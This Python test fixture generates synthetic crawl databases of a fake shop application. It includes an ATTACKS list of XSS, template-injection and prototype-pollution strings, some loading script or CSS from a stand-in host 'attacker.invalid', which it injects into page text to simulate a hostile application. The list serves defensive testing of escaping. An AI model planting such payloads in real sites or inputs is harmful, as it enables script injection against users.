"""Crawls of applications that nobody has to run: a menu, lists, items, as large as wanted."""

from collections.abc import Callable, Iterator
from io import BytesIO
from itertools import islice
from pathlib import Path

from PIL import Image

from statecrawl.core.counts import Counts
from statecrawl.core.facts import Executed, Fact, Found, Refused
from statecrawl.core.findings import Passage, Sighting
from statecrawl.core.problems import FindingKind, Problem
from statecrawl.core.snapshot import Call, Change, Effect, Event, Filling, Snapshot
from statecrawl.storage import SqliteStore

URL = "http://127.0.0.1:9/shop"
MENU = 8
BRANCHES = 6
IN_A_TRANSACTION = 5_000
TYPING = 7
"""A state with a field and a form."""

Said = Callable[[str], str]
"""Gives a text of the application another form."""

ATTACKS = (
    "<img src=x onerror=\"window.pwned='img'\">",
    "\"><script>window.pwned='script'</script>",
    "</script><script src='http://attacker.invalid/x.js'></script>",
    "javascript:window.pwned='url'",
    "<style>@import 'http://attacker.invalid/x.css'</style>",
    "<iframe srcdoc=\"<script>top.pwned='frame'</script>\"></iframe>",
    "<svg onload=\"window.pwned='svg'\"><base href='http://attacker.invalid/'>",
    "{{constructor.constructor('window.pwned=1')()}}${window.pwned=1}",
    "__proto__",
    "'); window.pwned='quote'; ('",
    "\u202e\ud800\x00\n\r\u2028-->",
)


def attacking(text: str) -> str:
    """What a hostile application would say in its place."""
    return f"{ATTACKS[sum(map(ord, text)) % len(ATTACKS)]} {text}"


def identity(state: int, version: int = 1) -> str:
    """The id of a state; some are others in another version."""
    number = state * version if state % 100 == 5 else state
    return f"{number * 11400714819323198485 % 2**64:016x}"


def generate(
    folder: Path,
    states: int = 2_000,
    *,
    links: int = 0,
    pictures: int = 60,
    said: Said = str,
    version: int = 1,
) -> Path:
    """Make a crawl of so many states and 14 times as many transitions, and links across."""
    about = {
        "url": said(URL) if said is not str else URL,
        "entries": [URL],
        "strategy": "probability",
        "equivalence": "exact",
        "reset_cost": 12.5,
        "options": {},
        "warnings": {"li": said("the list makes states multiply")},
    }
    application = _Application(states, links, said, version)
    with SqliteStore.create(folder, about) as store:
        events = 0
        learned = application.facts()
        while facts := list(islice(learned, IN_A_TRANSACTION)):
            events += sum(isinstance(fact, Executed) for fact in facts)
            store.append(facts, Counts(events, 3, seconds=events / 300))
        counts = Counts(
            events, 3, events / 300, 99, 3_244, stop_reason="complete", failures={"hang": 2}
        )
        store.append([], counts, application.calls(), application.sightings())
        for state in range(min(states, pictures)):
            store.save_screenshot(identity(state), picture(state))
    return folder


def picture(state: int) -> bytes:
    """A picture of a state: JPEG, another colour for each."""
    out = BytesIO()
    shade = ((state * 37) % 200, (state * 91) % 200, 180)
    Image.new("RGB", (640, 400), shade).save(out, "JPEG")
    return out.getvalue()


class _Application:
    """A menu in every state; below it a tree, with ways to the next one and back."""

    def __init__(self, states: int, links: int, said: Said, version: int) -> None:
        self._states = states
        self._links = links
        self._said = said
        self._version = version

    def id(self, state: int) -> str:
        return identity(state, self._version)

    def facts(self) -> Iterator[Fact]:
        yield Found(self.id(0), self.page(0), 0, 1)
        yield Executed("", f"load {URL}", self.id(0))
        for state in range(1, self._states):
            above = (state - 1) // BRANCHES
            yield Found(self.id(state), self.page(state), state, 1)
            change = Change(self._said("ul#list"), self._said("innerHTML"))
            calls = (Call("GET", self._said("/api"), "/api", (self._said("ask"), "main"), False),)
            effect = Effect((change,), calls)
            yield Executed(self.id(above), self.open(state), self.id(state), effect)
        for state in range(self._states):
            yield from self.others(state)
        yield Executed(self.id(1), "next", self.id(3))
        yield Refused(self.id(2), "loop 0", self._said("hang"))

    def others(self, state: int) -> Iterator[Fact]:
        here = self.id(state)
        for section in range(min(MENU, self._states)):
            yield Executed(here, f"menu {section}", self.id(section))
        yield Executed(here, "up", self.id((state - 1) // BRANCHES if state else 0))
        yield Executed(here, "next", self.id((state + 1) % self._states))
        yield Executed(here, "back to", self.id((state - 1) % self._states))
        for link in range(self._links):
            target = (state * 7 + link * 131 + 1) % self._states
            yield Executed(here, f"link {link}", self.id(target))
        if state != 2:
            yield Executed(here, "loop 0", here)
        yield Executed(here, "loop 1", here)

    def open(self, state: int) -> str:
        return f"open {state}"

    def page(self, state: int) -> Snapshot:
        said = self._said
        first = state * BRANCHES + 1
        below = range(first, min(first + BRANCHES, self._states))
        names = [f"menu {section}" for section in range(min(MENU, self._states))]
        names += [self.open(child) for child in below]
        names += [f"link {link}" for link in range(self._links)]
        names += ["up", "next", "back to", "loop 0", "loop 1"]
        names += ["never fired"] if state % 50 == 7 else []
        kinds = {"loop 0": "hover", "loop 1": "scroll"}
        events = tuple(
            Event(name, said("a"), kinds.get(name, "click"), said(f"Do {name}"), said(f"a.{name}"))
            for name in names
        )
        if state == TYPING:
            events += self.typing()
        change = f"<p>version {self._version}</p>" if state % 100 == 5 else ""
        items = "".join(f'<li class="item">{said(f"Item {child}")}</li>' for child in below)
        heading = said(f"State {state}")
        dom = f"<html><body><h1>{heading}</h1><ul>{items}</ul>{change}</body></html>"
        title = said("Shop" if state % 3 else f"Shop: {state}")
        regions = {"menu": "m", "list": f"l{state // BRANCHES}", "main": f"{state}"}
        return Snapshot(dom, events, f"{said(URL)}/{state % 5}", regions, title)

    def typing(self) -> tuple[Event, ...]:
        said = self._said
        put = (
            Filling("#who", "input", said("Ann"), said("Name")),
            Filling("#ok", "click", "", "OK"),
        )
        return (
            Event('input "red" search', "f", "input", said("Search"), said("#q")),
            Event('submit "filled" form', "f", "submit", said("Order"), "form", "", put),
        )

    def calls(self) -> list[tuple[str, Call]]:
        stack = (self._said("ask"), self._said("show"), "main")
        return [
            ("next", Call("GET", self._said(f"/api/{n}"), f"/api/{n}", stack, n > 5))
            for n in range(30)
        ]

    def sightings(self) -> list[Sighting]:
        passage = Passage(self.id(0), "next", self.id(1))
        return [
            Sighting(passage, Problem(kind, self._said(f"a {kind}"), self._said("app.js:3")))
            for kind in (FindingKind.EXCEPTION, FindingKind.HTTP, FindingKind.ACCESSIBILITY)
        ]
